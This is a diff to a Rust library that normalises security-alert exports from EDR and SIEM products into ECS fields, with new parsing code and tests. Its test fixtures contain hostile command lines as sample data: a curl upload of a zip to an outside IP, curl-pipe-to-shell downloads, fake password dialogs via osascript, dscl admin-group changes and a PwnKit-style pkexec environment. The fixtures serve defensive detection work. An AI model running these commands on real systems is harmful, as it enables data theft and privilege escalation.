@@ -451,6 +451,11 @@ const SPLITTERS: &[(Splitter, (&str, &str), &str)] = &[
         "the advanced hunting response holds {total} rows; the first {max} were taken as alerts and these were not: narrow the query (or `take` fewer rows) to run them",
     ),
     (
+        edr::santa_line_list,
+        ("line", "lines"),
+        "the document holds {total} santad lines; the first {max} were taken as alerts and these were not: ship the log one line per event to run them",
+    ),
+    (
         edr::osquery_snapshot_rows,
         ("row", "rows"),
         "the osquery result holds {total} rows; the first {max} were taken as alerts and these were not: log the query in event format (one row per line) to run them",
@@ -554,7 +559,7 @@ pub fn from_json_expanded(doc: Json, position: &str) -> Vec<Result<Alert, BadAle
     }
     let (rule, matches) = match rule_matches(doc) {
         Ok(r) => r,
-        Err(doc) => return vec![from_json(doc, position)],
+        Err(doc) => return whole_or_listed(doc, position),
     };
     let total = matches.len();
     let mut out = Vec::with_capacity(total.min(MAX_RULE_MATCHES) + 1);
@@ -589,6 +594,45 @@ pub fn from_json_expanded(doc: Json, position: &str) -> Vec<Result<Alert, BadAle
         }));
     }
     out
+}
+
+/// A document read whole; when no reader knows its shape and its only field is a list of
+/// objects (a collector's `{"santa_log": [row, …]}`), each of those objects is an alert.
+fn whole_or_listed(doc: Json, position: &str) -> Vec<Result<Alert, BadAlert>> {
+    let items = match &doc {
+        Json::Object(o) if o.len() == 1 => o
+            .values()
+            .next()
+            .and_then(Json::as_array)
+            .filter(|a| !a.is_empty() && a.iter().all(Json::is_object))
+            .cloned(),
+        _ => None,
+    };
+    let Some(items) = items else {
+        return vec![from_json(doc, position)];
+    };
+    let whole = from_json(doc.clone(), position);
+    // Read by a reader that knows the shape, the document is one alert.
+    let known = whole.as_ref().is_ok_and(|a| {
+        a.doc
+            .get("process")
+            .and_then(Json::as_object)
+            .is_some_and(|p| !p.is_empty())
+            && a.doc.pointer("/event/provider").and_then(Json::as_str)
+                != Some(generic::UNRECOGNISED)
+    });
+    if known {
+        return vec![whole];
+    }
+    let total = items.len();
+    each_capped(
+        items.into_iter(),
+        total,
+        position,
+        ("entry", "entries"),
+        "the document lists {total} entries; the first {max} were taken as alerts and these were not: send them one per line to run them",
+        &doc,
+    )
 }
 
 /// Zircolite (and Sigma engines like it) report a rule once with every event it matched:
@@ -694,13 +738,42 @@ fn ecs_types(ecs: &mut Map<String, Json>) {
             *v = Json::String(s);
         }
     }
+    // An address or a domain given as a list (a rule's several destinations): the first.
+    for path in [
+        "destination.ip",
+        "destination.domain",
+        "source.ip",
+        "destination.address",
+    ] {
+        if let Some(v) = get_path_mut(ecs, path)
+            && let Json::Array(a) = v
+            && let Some(first) = a.iter().find_map(scalar)
+        {
+            *v = Json::String(first);
+        }
+    }
     for p in ["process", "process.parent", "process.parent.parent"] {
         for k in ["name", "executable", "command_line"] {
-            if let Some(v) = get_path_mut(ecs, &format!("{p}.{k}"))
-                && let Json::Array(a) = v
-            {
-                let joined = a.iter().filter_map(Json::as_str).collect::<Vec<_>>();
-                *v = Json::String(joined.join(" "));
+            let Some(v) = get_path_mut(ecs, &format!("{p}.{k}")) else {
+                continue;
+            };
+            match v {
+                Json::Array(a) => {
+                    let joined = a.iter().filter_map(Json::as_str).collect::<Vec<_>>();
+                    *v = Json::String(joined.join(" "));
+                }
+                // An object where ECS has text (`executable: {path, name}`): its path or name.
+                Json::Object(o) => {
+                    let t = ["path", "name", "value"]
+                        .iter()
+                        .find_map(|f| o.get(*f).and_then(Json::as_str))
+                        .map(str::to_owned);
+                    match t {
+                        Some(t) => *v = Json::String(t),
+                        None => *v = Json::String(String::new()),
+                    }
+                }
+                _ => {}
             }
         }
         if let Some(v) = get_path_mut(ecs, &format!("{p}.args"))
@@ -2639,17 +2712,30 @@ fn jamf_protect(outer: &Map<String, Json>) -> Option<(Map<String, Json>, Option<
     let ev = m.get("event")?;
     // Analytic matches name the process by pid among `related.processes`; threat-prevention
     // matches (`matchType` "Threat Signature") carry it whole under `match.event.process`.
-    let embedded = ev.get("process").filter(|p| p.get("path").is_some());
+    // (Some exports put that process beside the event, `match.process`.)
+    let embedded = ev
+        .get("process")
+        .or_else(|| m.get("process"))
+        .filter(|p| p.get("path").is_some());
     let none = Vec::new();
     let procs = obj
         .get("related")
         .and_then(|r| r.get("processes"))
         .and_then(Json::as_array)
         .unwrap_or(&none);
+    // An analytic's match that names no pid judges the first related process with arguments
+    // (the one its facts matched; the others are its ancestors and what it went on to run).
     let pid = ev
         .get("pid")
-        .or_else(|| embedded.and_then(|p| p.get("pid")))?
-        .as_i64()?;
+        .or_else(|| embedded.and_then(|p| p.get("pid")))
+        .and_then(Json::as_i64)
+        .or_else(|| {
+            procs
+                .iter()
+                .find(|p| p.get("args").is_some_and(Json::is_array))?
+                .get("pid")?
+                .as_i64()
+        })?;
     let find = |p: i64| {
         procs
             .iter()
@@ -2708,12 +2794,17 @@ fn jamf_protect(outer: &Map<String, Json>) -> Option<(Map<String, Json>, Option<
         }
     } else {
         // A process match that carries its ancestors beside the process (`parentProcess`,
-        // `grandparentProcess`) when `related.processes` lists none of them.
+        // `grandparentProcess`, or `parent` and `grandparent`) when `related.processes` lists
+        // none of them.
         let beside = |k: &str| {
-            embedded
-                .and_then(|p| p.get(k))
-                .or_else(|| ev.get(k))
-                .filter(|p| p.get("path").is_some() || p.get("args").is_some())
+            [k, k.trim_end_matches("Process")]
+                .into_iter()
+                .find_map(|k| {
+                    embedded
+                        .and_then(|p| p.get(k))
+                        .or_else(|| ev.get(k))
+                        .filter(|p| p.get("path").is_some() || p.get("args").is_some())
+                })
         };
         if let Some(pp) = beside("parentProcess") {
             put(&mut e, "process.parent", pp);
@@ -3376,6 +3467,15 @@ pub(crate) fn windows_flat(o: &Map<String, Json>) -> Map<String, Json> {
                 get("ParentCommandLine"),
             );
             set(&mut e, "process.parent.entity_id", get("ParentProcessGuid"));
+            // Sysmon writes the parent's whole argv, its program's name first: an empty one
+            // (beside a known parent program) is a parent started with no arguments at all.
+            if sysmon
+                && eid == 1
+                && o.get("ParentCommandLine").and_then(Json::as_str) == Some("")
+                && get("ParentImage").is_some()
+            {
+                set_path(&mut e, "process.parent.args_count", Json::from(0));
+            }
             if eid == 1 {
                 if let Some(p) = hex_or_dec(get("ProcessId")) {
                     set_path(&mut e, "process.pid", p);
@@ -6836,7 +6936,8 @@ mod tests {
             "processTree": [{"name": "Terminal"}, {"name": "zsh", "cmdline": "-zsh"},
                 {"name": "bash", "path": "/bin/bash", "cmdline": "/bin/bash -c x"}, {"name": "git", "cmdline": "git init"}]});
         let a = from_json(s1, "x").unwrap();
-        assert_eq!(get(&a, "process.command_line"), "/bin/bash -c x");
+        // (what the threat's process started, `git init`, follows as a branch)
+        assert_eq!(get(&a, "process.command_line"), "/bin/bash -c x\ngit init");
         assert_eq!(get(&a, "process.parent.command_line"), "-zsh");
         assert!(get(&a, "host.os.name").starts_with("macOS"));
         // A flat record naming the grandparent (Graylog's GELF fields from an audit pipeline).
@@ -7477,5 +7578,197 @@ mod tests {
         let a = from_json(sp, "x").unwrap();
         assert_eq!(get(&a, "process.parent.parent.name"), "fodhelper.exe");
         assert!(get(&a, "process.parent.parent.executable").ends_with("fodhelper.exe"));
+    }
+
+    #[test]
+    fn session_28_shapes() {
+        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
+        // A SentinelOne threat's process tree that goes on past the threat's own file: what it
+        // started follows its command line as branches.
+        let s1 = json!({"threatInfo": {"threatId": "t-1", "filePath": "/Volumes/V/V.app/Contents/MacOS/V", "classification": "Infostealer"},
+            "agentRealtimeInfo": {"agentComputerName": "mbp", "agentOsType": "macos"},
+            "processTree": [{"name": "V", "cmdline": "/Volumes/V/V.app/Contents/MacOS/V"},
+                {"name": "osascript", "cmdline": "osascript -e 'display dialog \"x\" with hidden answer'"},
+                {"name": "sh", "cmdline": "sh -c curl -X POST --data-binary @/tmp/o.zip http://198.51.100.9/j"}]});
+        let a = from_json(s1, "x").unwrap();
+        let cmd = get(&a, "process.command_line");
+        assert!(
+            cmd.starts_with("/Volumes/V/V.app/Contents/MacOS/V\n"),
+            "{cmd}"
+        );
+        assert!(
+            cmd.contains("with hidden answer") && cmd.ends_with("http://198.51.100.9/j"),
+            "{cmd}"
+        );
+        // An osquery query that joins the grandparent too.
+        let oq = json!({"name": "pack_x", "hostIdentifier": "b-1", "calendarTime": "Thu Nov  6 10:12:44 2025 UTC", "action": "added",
+            "columns": {"path": "/usr/bin/dash", "cmdline": "sh -s", "parent_cmdline": "/bin/bash -e /tmp/script_1.sh",
+                "grandparent_path": "/usr/sbin/sshd", "grandparent_cmdline": "sshd: packer@notty"}});
+        let a = from_json(oq, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.parent.parent.command_line"),
+            "sshd: packer@notty"
+        );
+        assert_eq!(get(&a, "process.parent.parent.name"), "sshd");
+        // A document no reader knows whose only field lists rows: each row is an alert.
+        let rows = json!({"santa_log": [
+            {"action": "EXEC", "path": "/Users/u/Downloads/X.app/Contents/MacOS/X", "args": "X", "user": "u", "machine_id": "m"},
+            {"action": "EXEC", "path": "/usr/bin/osascript", "args": "osascript -e display dialog", "user": "u", "machine_id": "m"}]});
+        let got = from_json_expanded(rows, "line 1");
+        assert_eq!(got.len(), 2);
+        assert_eq!(
+            get(got[1].as_ref().unwrap(), "process.executable"),
+            "/usr/bin/osascript"
+        );
+        assert_eq!(got[1].as_ref().unwrap().position, "line 1, entry 2");
+        // … but a known shape with one list field stays one alert (QRadar's events).
+        let q = json!({"events": [{"qid": 1, "logSourceName": "LinuxServer @ h1", "startTime": "2025-04-05T09:11:00Z",
+            "payload": "<85>Apr  5 09:11:00 h1 sudo: u : TTY=pts/2 ; PWD=/home/u ; USER=root ; COMMAND=/usr/bin/id"}]});
+        assert_eq!(from_json_expanded(q, "x").len(), 1);
+        // QRadar rows listed newest first are read in time order: the newest is the alert's
+        // process, and the log source's name (`logSourceName`) names the host.
+        let q = json!({"offenseId": 1, "events": [
+            {"qid": 2, "logSourceName": "LinuxServer @ app-2", "startTime": "2025-04-05T09:11:00Z",
+             "payload": "<85>Apr  5 09:11:00 app-2 sudo: u : TTY=pts/2 ; PWD=/home/u ; USER=root ; COMMAND=/usr/bin/python3 -c x"},
+            {"qid": 3, "logSourceName": "LinuxServer @ app-2", "startTime": "2025-04-05T08:58:41Z",
+             "payload": "<86>Apr  5 08:58:41 app-2 sshd[5]: Accepted password for u from 203.0.113.7 port 6 ssh2"}]});
+        let a = from_json(q, "x").unwrap();
+        assert_eq!(get(&a, "process.parent.name"), "sudo");
+        assert!(get(&a, "process.command_line").starts_with("/usr/bin/python3 -c x"));
+        assert_eq!(get(&a, "host.name"), "app-2");
+        // A santad line whose arguments hold `|` keeps them whole.
+        let sl = json!({"message": "[2025-09-09T13:52:47Z] I santad: action=EXEC|decision=ALLOW|reason=BINARY|pid=7|ppid=6|uid=501|user=d|path=/bin/sh|args=sh -c node x.js || (curl -sL https://e.dev/c.sh | sh)|machineid=M"});
+        let a = from_json(sl, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "sh -c node x.js || (curl -sL https://e.dev/c.sh | sh)"
+        );
+        // Sophos Central: the detection's children, connection, launch item and techniques.
+        let so = json!({"id": "s-1", "type": "Event::Endpoint::Threat::BehaviorDetected", "tenant": {"id": "t"},
+            "managedAgent": {"name": "mbp-1"}, "threat": "Mac/Susp-X",
+            "data": {"process": {"path": "/bin/bash", "cmdline": "/bin/bash /Users/c/.local/bin/u.sh", "parentPath": "/sbin/launchd"},
+                "persistence": {"plist": "/Users/c/Library/LaunchAgents/com.apple.u.plist"},
+                "children": [{"cmdline": "curl -s https://e.icu/c.sh -o /Users/c/.local/bin/.c.sh"}, {"cmdline": "osascript -e the clipboard as text"}],
+                "network": [{"remoteHost": "e.icu", "remoteIp": "203.0.113.62", "remotePort": 443}], "mitre": ["T1059.004", "T1115"]}});
+        let a = from_json(so, "x").unwrap();
+        let cmd = get(&a, "process.command_line");
+        assert!(
+            cmd.starts_with("/bin/bash /Users/c/.local/bin/u.sh\n")
+                && cmd.ends_with("osascript -e the clipboard as text"),
+            "{cmd}"
+        );
+        assert_eq!(get(&a, "destination.ip"), "203.0.113.62");
+        assert_eq!(get(&a, "destination.domain"), "e.icu");
+        assert_eq!(
+            get(&a, "file.path"),
+            "/Users/c/Library/LaunchAgents/com.apple.u.plist"
+        );
+        assert_eq!(
+            a.doc["threat"]["technique"]["id"],
+            json!(["T1059.004", "T1115"])
+        );
+        // Jamf Protect with the process beside the event (`match.process`, its `parent` and
+        // `grandparent` nested).
+        let jp = json!({"caid": "c", "host": {"hostname": "mba"}, "input": {"eventType": "GPProcessEvent", "match": {
+            "event": {"type": 1, "timestamp": 1.0},
+            "process": {"pid": 3, "ppid": 2, "uid": 0, "path": "/usr/bin/dscl", "args": ["dscl", ".", "-append", "/Groups/admin", "GroupMembership", "x"],
+                "parent": {"pid": 2, "path": "/usr/bin/sudo", "args": ["sudo", "-S", "dscl"]},
+                "grandparent": {"pid": 1, "path": "/bin/bash", "args": ["/bin/bash", "/Users/m/Library/Caches/r.sh"]}}}}});
+        let a = from_json(jp, "x").unwrap();
+        assert_eq!(get(&a, "process.name"), "dscl");
+        assert_eq!(get(&a, "process.parent.name"), "sudo");
+        assert_eq!(get(&a, "process.parent.parent.executable"), "/bin/bash");
+        // Jamf Protect: an analytic's match with no pid judges the first related process with
+        // arguments; the others outside its ancestry follow as branches.
+        let jp = json!({"caid": "c", "input": {"host": {"hostname": "mba"}, "match": {"event": {"type": 1}, "facts": [{"name": "X"}]},
+            "related": {"processes": [
+                {"pid": 5, "ppid": 4, "path": "/usr/bin/osascript", "args": ["osascript", "-e", "display dialog"]},
+                {"pid": 4, "path": "/Volumes/V/V.app/Contents/MacOS/V"},
+                {"pid": 6, "ppid": 4, "path": "/usr/bin/dscl", "args": ["dscl", "/Local/Default", "-authonly", "u", "x"]}]}}});
+        let a = from_json(jp, "x").unwrap();
+        assert_eq!(get(&a, "process.name"), "osascript");
+        assert!(
+            get(&a, "process.command_line").contains("\ndscl /Local/Default -authonly"),
+            "{}",
+            get(&a, "process.command_line")
+        );
+        // Sophos with the detection under `raw_data` (camel-case `cmdLine`, the grandparent, one
+        // connection as an object).
+        let so = json!({"id": "s", "type": "Event::Endpoint::Threat::PuaDetected", "endpoint_id": "e", "location": "lt-1",
+            "raw_data": {"process": {"path": "C:\\W\\powershell.exe", "cmdLine": "powershell -c x"},
+                "parent": {"path": "C:\\W\\cmd.exe", "cmdLine": "cmd /c x"},
+                "grandparent": {"path": "C:\\O\\WINWORD.EXE", "cmdLine": "WINWORD.EXE /n d.docm"},
+                "network": {"remote_ip": "198.51.100.4", "remote_port": 443, "domain": "e.top"}}});
+        let a = from_json(so, "x").unwrap();
+        assert_eq!(get(&a, "process.command_line"), "powershell -c x");
+        assert_eq!(get(&a, "process.parent.command_line"), "cmd /c x");
+        assert_eq!(get(&a, "process.parent.parent.name"), "WINWORD.EXE");
+        assert_eq!(get(&a, "destination.domain"), "e.top");
+        // Uptycs with several process rows: the first is the process, a row without arguments
+        // follows by its environment and program.
+        let up = json!({"id": "u", "code": "X", "asset": {"hostName": "n1"}, "metadata": {"process_events": [
+            {"pid": 1, "path": "/tmp/.pk/pwn", "cmdline": "./pwn", "parent_path": "/usr/bin/bash"},
+            {"pid": 2, "path": "/usr/bin/pkexec", "cmdline": "", "env": "GCONV_PATH=./p.so:.;CHARSET=PWNKIT"}]}});
+        let a = from_json(up, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "./pwn\nGCONV_PATH=./p.so:. CHARSET=PWNKIT /usr/bin/pkexec"
+        );
+        // A Cybereason MalOp element whose root cause is a process element.
+        let cr = json!({"guidString": "11.1", "simpleValues": {"elementDisplayName": {"values": ["k"]}},
+            "elementValues": {"affectedMachines": {"elementValues": [{"name": "mac-3", "elementType": "Machine"}]},
+                "primaryRootCauseElements": {"elementValues": [{"name": "bash", "elementType": "Process",
+                    "simpleValues": {"commandLine": {"values": ["/bin/bash /Users/j/.local/bin/k"]}}}]}}});
+        let a = from_json(cr, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "/bin/bash /Users/j/.local/bin/k"
+        );
+        assert_eq!(get(&a, "host.name"), "mac-3");
+        // CrowdStrike's ProcessRollup2 under the event stream's `event`, with the script's text.
+        let cs = json!({"metadata": {"eventType": "Event_ProcessRollup2"}, "event": {"event_simpleName": "ProcessRollup2",
+            "event_platform": "Mac", "ComputerName": "mba", "ImageFileName": "/usr/bin/osascript",
+            "CommandLine": "osascript -l JavaScript /Users/u/.c/s.js", "ScriptContentPreview": "a.doShellScript('curl x')"}});
+        let a = from_json(cs, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "osascript -l JavaScript /Users/u/.c/s.js\na.doShellScript('curl x')"
+        );
+        assert_eq!(get(&a, "host.os.type"), "macos");
+        // eslogger's exec environment.
+        let es = json!({"process": {"executable": {"path": "/bin/sh"}, "audit_token": {"pid": 1, "euid": 501}},
+            "event": {"exec": {"target": {"executable": {"path": "/usr/local/bin/node"}, "audit_token": {"pid": 2, "euid": 501}},
+                "args": ["node", "-e", "x"], "env": ["npm_lifecycle_event=postinstall", "HOME=/Users/u"]}}, "time": "2025-12-17T11:02:44Z"});
+        let a = from_json(es, "x").unwrap();
+        assert_eq!(
+            a.doc["process"]["env_vars"],
+            json!(["npm_lifecycle_event=postinstall", "HOME=/Users/u"])
+        );
+        // santad lines carried as a list: one alert each.
+        let sl = json!({"santa_log": ["[t] I santad: action=EXEC|decision=ALLOW|pid=1|ppid=0|uid=501|user=u|path=/bin/sh|args=sh -c id|machineid=M",
+            "[t] I santad: action=EXEC|decision=ALLOW|pid=2|ppid=1|uid=501|user=u|path=/usr/bin/dscl|args=dscl . -authonly u x|machineid=M"], "machine_id": "M"});
+        let got = from_json_expanded(sl, "line 1");
+        assert_eq!(got.len(), 2);
+        assert_eq!(
+            get(got[1].as_ref().unwrap(), "process.executable"),
+            "/usr/bin/dscl"
+        );
+        // A Datadog signal typed `log_detection`; an executable given as an object and an
+        // address given as a list read as ECS's text.
+        let dd = json!({"id": "d", "type": "log_detection", "attributes": {"host": "h", "attributes": {
+            "process": {"executable": {"path": "/usr/bin/dash"}, "argv0": "sh", "args": ["-c", "id"]}}}});
+        let a = from_json(dd, "x").unwrap();
+        assert_eq!(get(&a, "process.executable"), "/usr/bin/dash");
+        let odd = json!({"process": {"executable": {"path": "/bin/bash", "name": "bash"}, "command_line": "bash -c id"},
+            "destination": {"ip": ["10.0.0.1", "10.0.0.2"]}, "host": {"name": "h"}});
+        let a = from_json(odd, "x").unwrap();
+        assert_eq!(get(&a, "process.executable"), "/bin/bash");
+        assert_eq!(get(&a, "destination.ip"), "10.0.0.1");
+        // Sysmon for Linux: an empty ParentCommandLine beside the parent's program is a parent
+        // started with no arguments.
+        let sy = json!({"Event": {"System": {"Provider": {"@Name": "Linux-Sysmon"}, "EventID": 1, "Channel": "Linux-Sysmon/Operational", "Computer": "b2"},
+            "EventData": {"Image": "/usr/bin/bash", "CommandLine": "/bin/bash -p", "User": "root", "ParentImage": "/usr/bin/pkexec", "ParentCommandLine": ""}}});
+        let a = from_json(sy, "x").unwrap();
+        assert_eq!(a.doc["process"]["parent"]["args_count"], json!(0));
     }
 }
